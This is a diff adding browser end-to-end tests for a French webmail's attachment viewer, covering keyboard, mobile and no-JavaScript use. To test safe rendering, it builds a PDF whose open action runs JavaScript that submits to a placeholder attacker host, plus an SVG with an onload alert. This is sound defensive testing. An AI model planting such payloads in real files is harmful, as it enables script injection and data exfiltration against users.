@@ -1,0 +1,142 @@
+"""Attachments opened over the desk, without a download before."""
+
+import imaplib
+import ssl
+import uuid
+from collections.abc import Callable
+from email.message import EmailMessage
+from email.utils import format_datetime, localtime, make_msgid
+from io import BytesIO
+
+import pytest
+from PIL import Image
+from playwright.sync_api import expect
+from pypdf import PdfWriter
+from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+from e2e.conftest import NewVisitor
+from e2e.desk import Desk
+from e2e.visitor import Visitor
+from vaguemestre.launcher.testing import Demo
+
+pytestmark = pytest.mark.browser
+
+
+def picture() -> bytes:
+    held = BytesIO()
+    Image.new("RGB", (900, 500), "teal").save(held, "PNG")
+    return held.getvalue()
+
+
+def pages(count: int) -> bytes:
+    """With a script that a PDF runs when it is opened, where anything runs it."""
+    held, book = BytesIO(), PdfWriter()
+    for _ in range(count):
+        book.add_blank_page(595, 842)
+    script = TextStringObject("app.alert(1); this.submitForm('https://mechant.example/');")
+    action = {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): script}
+    book.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
+    book.write(held)
+    return held.getvalue()
+
+
+def put(demo: Demo, subject: str, *files: tuple[str, str, bytes]) -> None:
+    """Into the teacher's inbox, as another program would."""
+    message = EmailMessage()
+    message["From"], message["To"] = "Sophie Marchand <service@autocars-marchand.example>", "x@ac-amiens.fr"
+    message["Subject"], message["Date"], message["Message-ID"] = subject, format_datetime(localtime()), make_msgid()
+    message.set_content("Voici.\n")
+    for name, kind, content in files:
+        main, _, sub = kind.partition("/")
+        message.add_attachment(content, maintype=main, subtype=sub, filename=name)
+    raw = message.as_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
+    imaps, account = demo.endpoints["imaps"], demo.account("teacher")
+    context = ssl.create_default_context(cafile=str(demo.ca))
+    with imaplib.IMAP4_SSL(imaps["host"], imaps["port"], ssl_context=context) as box:
+        box.login(account["identifier"], account["password"])
+        box.append("INBOX", "", imaplib.Time2Internaldate(localtime()), raw)
+
+
+def test_one_after_the_other_by_the_keyboard(at_the_desk: Callable[..., tuple[Visitor, Desk]], demo: Demo) -> None:
+    name = f"Dossier {uuid.uuid4().hex[:6]}"
+    put(
+        demo, name, ("Devis.pdf", "application/pdf", pages(3)), ("car.png", "image/png", picture()),
+        ("piège.svg", "image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+        ("Convention.rtf", "application/rtf", rb"{\rtf1\ansi Article premier\par}"),
+    )  # fmt: skip
+    visitor, desk = at_the_desk()
+    page = visitor.page
+    desk.wait_for(name)
+    desk.open(name)
+    message = page.url
+    page.get_by_role("link", name="Devis.pdf", exact=True).click()
+    viewer = page.get_by_role("dialog")
+    expect(viewer.locator(".page-sheet canvas").first).to_be_visible()
+    expect(viewer).to_contain_text("Page 1 sur 3")
+    visitor.axe()
+
+    page.keyboard.press("ArrowRight")
+    expect(viewer.get_by_role("heading", name="car.png")).to_be_focused()
+    image = viewer.get_by_role("img", name="car.png")
+    assert image.evaluate("image => image.decode().then(() => image.naturalWidth)") == 900
+    before = image.bounding_box()
+    viewer.get_by_role("button", name="Agrandir").click()
+    after = image.bounding_box()
+    assert before is not None
+    assert after is not None
+    assert after["width"] > before["width"]
+    visitor.axe()
+
+    page.keyboard.press("ArrowRight")
+    expect(viewer).to_contain_text('onload="alert(1)"')
+    page.keyboard.press("ArrowRight")
+    expect(viewer.locator(".page-text")).to_contain_text("Article premier", timeout=60_000)
+    page.keyboard.press("Escape")
+    expect(viewer).to_have_count(0)
+    expect(page).to_have_url(message)
+    expect(page.get_by_role("link", name="Convention.rtf", exact=True)).to_be_focused()
+    expect(desk.reader).to_be_visible()
+
+
+def test_on_a_telephone_back_returns_to_the_message(new_visitor: NewVisitor, demo: Demo) -> None:
+    name = f"Photo {uuid.uuid4().hex[:6]}"
+    put(demo, name, ("car.png", "image/png", picture()), ("Devis.pdf", "application/pdf", pages(2)))
+    visitor = new_visitor(viewport={"width": 390, "height": 740}, has_touch=True, is_mobile=True)
+    page, desk = visitor.page, Desk(visitor.page)
+    visitor.go("/webmail/")
+    visitor.sign_in(demo.account("teacher"))
+    desk.wait_for(name)
+    desk.open(name)
+    page.get_by_role("link", name="car.png", exact=True).click()
+    viewer = page.get_by_role("dialog")
+    expect(viewer.get_by_role("img", name="car.png")).to_be_visible()
+    visitor.fits()
+    viewer.get_by_role("link", name="Pièce jointe suivante").click()
+    expect(viewer.locator(".page-sheet canvas").first).to_be_visible()
+    visitor.fits()
+    visitor.axe()
+    address = page.url
+    page.go_back()
+    expect(viewer).to_have_count(0)
+    expect(desk.reader).to_be_visible()
+
+    visitor.go(address.removeprefix(demo.web))
+    expect(viewer.locator(".page-sheet canvas").first).to_be_visible()
+    viewer.get_by_role("link", name="Fermer").click()
+    expect(page.locator("#objet")).to_contain_text(name)
+
+
+def test_without_a_script_each_is_a_page(new_visitor: NewVisitor, demo: Demo) -> None:
+    name = f"Sans script {uuid.uuid4().hex[:6]}"
+    put(demo, name, ("car.png", "image/png", picture()), ("note.txt", "text/plain", "Été".encode("cp1252")))
+    visitor = new_visitor(java_script_enabled=False)
+    page = visitor.page
+    visitor.go("/webmail/")
+    visitor.sign_in(demo.account("teacher"))
+    Desk(page).row(name).first.locator(".row-link").click()
+    page.get_by_role("link", name="car.png", exact=True).click()
+    expect(page.get_by_role("img", name="car.png")).to_be_visible()
+    page.get_by_role("link", name="Pièce jointe suivante").click()
+    expect(page.locator(".viewer-text")).to_have_text("Été")
+    page.get_by_role("link", name="Fermer").click()
+    expect(page.locator("#objet")).to_contain_text(name)
